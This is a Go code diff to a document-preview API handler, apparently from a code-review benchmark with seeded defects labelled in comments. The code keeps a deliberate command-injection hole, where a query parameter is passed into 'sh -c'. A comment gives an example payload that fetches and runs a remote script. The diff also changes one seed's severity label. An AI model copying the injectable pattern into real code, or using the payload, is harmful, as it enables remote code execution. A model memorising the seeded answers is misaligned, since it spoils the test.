@@ -26,6 +26,14 @@ const (
 	maxTitleLength = 255
 	listPageSize   = 100
 	trashRetention = 30 * 24 * time.Hour
+
+	// maxConcurrentPreviews caps the pdftoppm processes one instance runs at a time.
+	maxConcurrentPreviews = 4
+)
+
+var (
+	previewSlots = make(chan struct{}, maxConcurrentPreviews)
+	previewEnv   = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C"}
 )
 
 // Handler serves the document API. Blobs live as files under blobRoot, named by a random key.
@@ -115,7 +123,7 @@ func (h *Handler) writeBlob(key string, data []byte) error {
 	if err != nil {
 		return err
 	}
-	// SEED 7 [MAJOR] (core/swallowed-error) the deferred Close discards its error, and the file is renamed into place before it runs, so a failed flush (disk full, NFS) silently stores a truncated document
+	// SEED 7 [MINOR] (core/swallowed-error) the deferred Close discards its error, and the file is renamed into place before it runs, so a failed flush (disk full, NFS) silently stores a truncated document
 	defer f.Close()
 	if _, err := f.Write(data); err != nil {
 		os.Remove(f.Name())
@@ -198,6 +206,14 @@ func (h *Handler) Preview(w http.ResponseWriter, r *http.Request) {
 		http.Error(w, "previews are only available for PDF documents", http.StatusUnsupportedMediaType)
 		return
 	}
+	select {
+	case previewSlots <- struct{}{}:
+		defer func() { <-previewSlots }()
+	default:
+		w.Header().Set("Retry-After", "5")
+		http.Error(w, "too many previews in progress, try again shortly", http.StatusServiceUnavailable)
+		return
+	}
 	page := r.URL.Query().Get("page")
 	if page == "" {
 		page = "1"
@@ -216,6 +232,7 @@ func (h *Handler) Preview(w http.ResponseWriter, r *http.Request) {
 	src := filepath.Join(h.blobRoot, doc.BlobKey)
 	// SEED 9 [BLOCKER] (core/command-injection) the raw page query parameter is formatted into a sh -c command line, so ?page=1;curl+evil.sh|sh runs arbitrary commands on the server
 	cmd := exec.CommandContext(ctx, "sh", "-c", fmt.Sprintf("pdftoppm -png -singlefile -r 72 -f %s -l %s %s %s", page, page, src, out))
+	cmd.Env = previewEnv // the renderer parses untrusted bytes: it gets none of the service's secrets
 	if msg, err := cmd.CombinedOutput(); err != nil {
 		h.log.Warn("preview failed", "doc", doc.ID, "err", err, "output", string(msg))
 		http.Error(w, "could not render that page", http.StatusUnprocessableEntity)
